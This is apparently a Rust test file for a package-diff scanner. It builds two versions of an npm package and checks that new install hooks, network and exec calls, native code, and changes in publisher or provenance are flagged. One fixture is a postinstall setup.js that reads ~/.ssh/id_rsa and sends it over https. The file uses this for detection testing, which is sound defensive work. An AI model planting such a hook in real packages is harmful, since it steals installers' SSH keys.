//! Two versions of one package, made here, and what is said of the second.

use super::*;
use crate::structure::scan_archive;
use crate::structure::tests::mint::tar_gz;
use countersign_core::{
    Age, Check, Claim, Ecosystem, Evidence, EvidenceState, Reservation, VersionFacts,
};
use countersign_ecosystem::archive::Limits;
use std::io::Cursor;

fn judged(
    version: &str,
    scripts: &str,
    files: &[(&str, &[u8])],
) -> (ArtifactFacts, Vec<ManifestEntry>) {
    let json = format!(
        r#"{{"name": "left-pad", "version": "{version}", "license": "MIT", "scripts": {scripts}}}"#
    );
    let mut all: Vec<(&str, &[u8])> = vec![("package/package.json", json.as_bytes())];
    all.extend(files);
    let bytes = tar_gz(&all);
    let report =
        scan_archive("left-pad.tgz", Ecosystem::Npm, None, Cursor::new(&bytes), &Limits::default());
    let version = VersionFacts {
        purl: format!("pkg:npm/left-pad@{version}").parse().unwrap(),
        upstream: "npm".to_owned(),
        age: Age::Unknown,
        yanked: false,
        reservation: Reservation::None,
        denied: false,
        allowed: false,
        fixes_installed: Vec::new(),
        findings: Vec::new(),
        advisories: Check::passed("advisories"),
        advised_as: None,
        upgrade: None,
        silent_days: None,
        claimed_repository: None,
    };
    let facts = ArtifactFacts {
        version,
        file_name: "left-pad.tgz".to_owned(),
        sha256: Sha256Digest::of(&bytes),
        size: bytes.len() as u64,
        digest_confirmed: true,
        index_digests: Vec::new(),
        evidence: Vec::new(),
        changes: Vec::new(),
        dependencies: Vec::new(),
        findings: report.findings,
        checks: Vec::new(),
    };
    (facts, report.manifest)
}

fn changes(
    old: &(ArtifactFacts, Vec<ManifestEntry>),
    new: &(ArtifactFacts, Vec<ManifestEntry>),
) -> Vec<(&'static str, Severity, String)> {
    let all = compare(
        Side { facts: &old.0, files: Some(&old.1) },
        Side { facts: &new.0, files: Some(&new.1) },
    );
    all.into_iter().map(|c| (c.kind, c.severity, c.text)).collect()
}

const QUIET: &[u8] = b"module.exports = 1\n";

#[test]
fn a_new_hook_and_what_it_can_do_come_first() {
    let old = judged("1.0.0", "{}", &[("package/index.js", QUIET)]);
    let steal: &[u8] =
        b"require('https').request(x).end(require('fs').readFileSync(home + '/.ssh/id_rsa'))";
    let files: &[(&str, &[u8])] =
        &[("package/index.js", QUIET), ("package/setup.js", steal), ("package/x.node", b"\0")];
    let new = judged("1.0.1", r#"{"postinstall": "node setup.js"}"#, files);
    let all = changes(&old, &new);
    let kinds: Vec<&str> = all.iter().map(|(k, ..)| *k).collect();
    assert_eq!(&kinds[..2], ["install-hook", "suspicious"], "{all:#?}");
    assert!(kinds.contains(&"capability") && kinds.contains(&"native-code"), "{all:#?}");
    assert!(all[0].2.starts_with("new: npm runs the script postinstall"), "{all:#?}");
    assert!(
        all.iter()
            .any(|(k, _, t)| *k == "files" && t == "2 added: `package/setup.js`, `package/x.node`")
    );
    // The other way round all of it is gone, which is no worry.
    let back = changes(&new, &old);
    assert!(back.iter().all(|(_, severity, _)| *severity <= Severity::Info), "{back:#?}");
}

#[test]
fn a_hook_with_another_command_is_a_change() {
    let old = judged("1.0.0", r#"{"install": "node a.js"}"#, &[("package/a.js", QUIET)]);
    let new = judged("1.0.1", r#"{"install": "node b.js"}"#, &[("package/a.js", QUIET)]);
    let all = changes(&old, &new);
    assert!(all[0].2.starts_with("changed: npm runs the script install: `node b.js`"), "{all:#?}");
}

#[test]
fn what_stays_is_not_said() {
    let old = judged("1.0.0", "{}", &[("package/index.js", QUIET)]);
    assert_eq!(changes(&old, &old), []);
}

#[test]
fn lost_evidence_and_another_publisher_are_high() {
    let claim = |signer: &str| Box::new(Claim { signer: signer.to_owned(), ..Claim::default() });
    let with = |signer: Option<&str>| {
        let mut side = judged("1.0.0", "{}", &[]);
        let state = signer.map(|s| EvidenceState::Verified { claim: claim(s) });
        side.0.evidence.extend(state.map(|state| Evidence {
            kind: "npm-provenance".to_owned(),
            source: "index".to_owned(),
            state,
        }));
        side
    };
    let lost = changes(&with(Some("a")), &with(None));
    assert_eq!((lost[0].0, lost[0].1), ("evidence", Severity::High));
    let other = changes(&with(Some("a")), &with(Some("b")));
    assert_eq!((other[0].0, other[0].1), ("publisher", Severity::High));
    // A workflow that runs for each version's tag is the same publisher.
    let workflow = |tag: &str| with(Some(&format!("https://code.example/w.yml@refs/tags/{tag}")));
    assert_eq!(changes(&workflow("1.0"), &workflow("1.1")), []);
    assert_eq!(changes(&with(None), &with(Some("a")))[0].1, Severity::Info);
}

fn facts_of(
    old: &(ArtifactFacts, Vec<ManifestEntry>),
    new: &(ArtifactFacts, Vec<ManifestEntry>),
) -> Vec<String> {
    let side = |s: &'static str| vec![s.to_owned()];
    let (was, is) = (side("left"), side("right"));
    let all = brought(
        Side { facts: &old.0, files: Some(&old.1) },
        Side { facts: &new.0, files: Some(&new.1) },
        Some((&was, if old.0 == new.0 { &was } else { &is })),
    );
    all.into_iter().map(|c| c.kind).collect()
}

#[test]
fn what_a_version_brings_is_told_as_facts() {
    let old = judged("1.0.0", "{}", &[("package/index.js", QUIET)]);
    let reach: &[u8] = b"require('https').get(x); require('child_process').execSync(y)";
    let files: &[(&str, &[u8])] =
        &[("package/index.js", QUIET), ("package/setup.js", reach), ("package/x.node", b"\0")];
    let hook = r#"{"postinstall": "node setup.js"}"#;
    let new = judged("1.0.1", hook, files);
    let want = [
        "new-install-hook",
        "new-network",
        "new-execute",
        "new-capability",
        "new-native-code",
        "new-dependency",
        "patch-release",
    ];
    assert_eq!(facts_of(&old, &new), want);
    // A feature release brings the same, and is no patch.
    let minor = judged("1.1.0", hook, files);
    assert_eq!(facts_of(&old, &minor), want[..6]);
    assert_eq!(facts_of(&old, &old), Vec::<String>::new());
    let large = judged("1.0.1", "{}", &[("package/index.js", &b"//\n".repeat(200_000))]);
    assert_eq!(facts_of(&old, &large), ["new-dependency", "grew", "patch-release"]);
}

/// What honest patch releases do: the code that reaches outside moves, the hook stays, tests come.
#[test]
fn honest_patches_bring_nothing_that_is_held() {
    let reach: &[u8] = b"require('https').get(x); require('child_process').execSync(y)";
    let hook = r#"{"postinstall": "node setup.js"}"#;
    let old = judged("1.0.0", hook, &[("package/setup.js", reach)]);
    for new in [
        judged("1.0.1", hook, &[("package/setup.js", QUIET), ("package/lib.js", reach)]),
        judged("1.0.1", hook, &[("package/setup.js", reach), ("package/test/a.js", reach)]),
        judged("1.0.1", "{}", &[("package/setup.js", reach)]),
    ] {
        let held = |k: &String| k.starts_with("new-") && k != "new-dependency";
        assert!(!facts_of(&old, &new).iter().any(held), "{:?}", facts_of(&old, &new));
    }
    let quiet = judged("1.0.0", "{}", &[("package/index.js", QUIET)]);
    let tests = judged("1.0.1", "{}", &[("package/index.js", QUIET), ("package/test/a.js", reach)]);
    assert_eq!(facts_of(&quiet, &tests), ["new-dependency", "patch-release"]);
}

#[test]
fn without_manifests_files_are_not_compared_and_that_is_said() {
    let old = judged("1.0.0", "{}", &[]);
    let side = Side { facts: &old.0, files: None };
    assert_eq!(compare(side, side)[0].kind, "not-compared");
}

#[test]
fn versions_are_taken_out_of_paths() {
    for (path, want) in [
        ("flask-3.0.0/setup.py", "flask/setup.py"),
        ("zope_interface-5.0.dist-info/RECORD", "zope_interface.dist-info/RECORD"),
        ("package/index.js", "package/index.js"),
        ("flask/app.py", "flask/app.py"),
        ("setup.py", "setup.py"),
    ] {
        assert_eq!(unversioned(path), want, "{path}");
    }
}
